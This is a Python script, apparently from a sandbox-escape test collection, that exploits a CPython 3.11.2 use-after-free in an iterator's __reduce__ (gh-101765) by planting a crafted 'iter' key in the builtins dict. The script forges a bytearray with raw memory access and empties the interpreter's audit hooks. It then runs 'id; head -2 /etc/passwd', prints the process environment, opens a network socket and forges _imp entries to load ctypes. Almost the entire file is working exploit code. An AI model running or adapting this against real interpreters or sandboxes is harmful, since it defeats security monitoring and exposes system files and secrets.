# family: wall (memory: gh-101765, an iterator's __reduce__ and a planted builtins key)   goal: id   interpreter: /usr/bin/python3
# FULL ESCAPE: iterator __reduce__ + the program's builtins dict (key __eq__) use-after-free -> raw memory -> hook gone
#
# Family: memory safety of CPython 3.11.2, second independent primitive.
# Mechanism: a sequence iterator's __reduce__ (here bytearray's; list's behaves the same)
#   in 3.11.2 reads it->it_seq and then looks "iter" up in the builtins of the running
#   frame (gh-101765, fixed in 3.11.3). The program's builtins are a plain dict of its own
#   (module.__builtins__ = own): it replaces the key "iter" by a str subclass hashed like
#   "iter"; the lookup runs that key's __eq__, which exhausts the iterator (it_seq cleared,
#   the bytearray freed: its 64-byte object block) and refills the block with a
#   bytearray's 57-byte buffer holding a fake PyByteArrayObject (ob_size 2**62, data at
#   address 0). __reduce__ returns (iter, (fake,), 0): r[1][0] is raw memory.
#   The rest is ok_01's: the interpreter's audit_hooks list emptied, then everything.
# Goals reached: as ok_01 (hook removed; id; /etc/passwd; environment; AF_INET socket;

import sys
import asyncio
os = sys.modules["os"]
def raw_memory():
    """A list/bytearray iterator's __reduce__ (gh-101765, fixed in 3.11.3) reads its
    it_seq before it looks "iter" up in the builtins of the running frame; the program's
    builtins are its own dict: a str-subclass key hashed like "iter" runs __eq__ inside
    that lookup, exhausts the iterator (the bytearray, held by it alone, is freed) and
    takes the freed 64-byte block back with a bytearray buffer holding a fake bytearray
    header (length 2**62, data at address 0). __reduce__ returns (iter, (fake,), 0)."""
    B = __builtins__ if type(__builtins__) is dict else __builtins__.__dict__
    W = lambda v: v.to_bytes(8, "little")
    fake = W(1 << 40) + W(id(bytearray)) + W(1 << 62) + W(1 << 62) + W(0) + W(0) + W(1)
    holder = [bytearray()]
    out = {}
    class Key(str):
        def __hash__(self): return hash("iter")
        def __eq__(self, other):
            if "it" in out:
                it = out.pop("it")
                for _ in it: pass
                holder[0] += fake
            return str.__eq__(self, other)
    B[Key("iter")] = B.pop("iter")
    seq = bytearray(b"ab")
    it = iter(seq); del seq
    out["it"] = it
    r = it.__reduce__()
    B["iter"] = B.pop("iter")
    holder.append(r)
    keep.append(holder)
    return r[1][0]
keep = []
mem = raw_memory()
print(type(mem).__name__, "of", hex(len(mem)), "bytes at address 0", flush=True)
rd = lambda a: int.from_bytes(mem[a:a + 8], "little")
OFF_RT, OFF_INTERP, OFF_HOOKS = 1060224, 58936, (3552, 3880)
interp = id(type) + OFF_RT + OFF_INTERP
for off in OFF_HOOKS:
    lst = rd(interp + off)
    if not lst or rd(lst + 8) != id(list) or rd(lst + 16) != 1:
        continue
    fn = rd(rd(lst + 24))
    if rd(fn + 8) != id(type(raw_memory)):
        continue
    name = rd(fn + 32)
    text = bytes(mem[name + 48:name + 48 + rd(name + 16)])
    print("interp+%d: the interpreter's audit hooks: [function %r]" % (off, text))
    if text == b"hook":
        mem[lst + 16:lst + 24] = bytes(8)
        print("audit hook list emptied", flush=True)
os.system("id; head -2 /etc/passwd")
print(open("/proc/self/environ", "rb").read().replace(b"\0", b" "))
socket = sys.modules["socket"]
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM); print("AF_INET socket:", s)
f = sys._getframe(0)
while f.f_back is not None:
    f = f.f_back
    print("frame:", f.f_code.co_name, "| globals:", f.f_globals.get("__file__"), "WALL_EXIT" in f.f_globals)
_imp = sys.modules["_imp"]
def entry(name):
    ml0 = rd(id(_imp.is_builtin) + 16)
    for k in range(0, 16):
        p = rd(ml0 + 32 * k)
        if p == 0:
            return None
        if bytes(mem[p:p + len(name) + 1]) == name + b"\0":
            return ml0 + 32 * k
keepalive = []
def forge(model, name):
    buf = bytearray(16) + bytearray(mem[id(model):id(model) + 56])
    buf[16:24] = (1 << 40).to_bytes(8, "little")
    buf[32:40] = entry(name).to_bytes(8, "little")
    keepalive.append(buf)
    addr = rd(id(buf) + 32) + 16                    # the bytearray's ob_start + 16
    holder = [None]
    mem[rd(id(holder) + 24):rd(id(holder) + 24) + 8] = addr.to_bytes(8, "little")
    return holder[0]
_imp.create_dynamic = forge(_imp._fix_co_filename, b"create_dynamic")
_imp.exec_dynamic = forge(_imp.is_builtin, b"exec_dynamic")
ctypes = sys.modules["importlib"].import_module("ctypes")
libc = ctypes.CDLL("libc.so.6")
print("ctypes loaded, libc getpid() =", libc.getpid(), "getuid() =", libc.getuid())
sys.stdout.flush()
os._exit(0)
